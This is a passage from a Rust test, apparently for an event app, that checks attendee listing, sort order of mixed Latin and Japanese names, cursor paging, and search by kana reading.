        let all = events::attendees::list(db, id, &Default::default(), None, None)
            .await
            .unwrap();
        assert_eq!(
            names(all),
            ["Ann Smith", "井上 陽子", "中村 健", "渡辺 翔"],
            "{backend}"
        );
        // Paging follows the same order, and the reading can be searched.
        let first = events::attendees::list(db, id, &Default::default(), None, Some(2))
            .await
            .unwrap();
        let second =
            events::attendees::list(db, id, &Default::default(), first.next.clone(), Some(2))
                .await
                .unwrap();
        assert_eq!(names(second), ["中村 健", "渡辺 翔"], "{backend}");
        let by_reading = tsudoi::events::AttendeeFilter {
            status: None,
            search: Some("なかむら".into()),
        };
        let found = events::attendees::list(db, id, &by_reading, None, None)
            .await
            .unwrap();
        assert_eq!(names(found), ["中村 健"], "{backend}");
    }
}
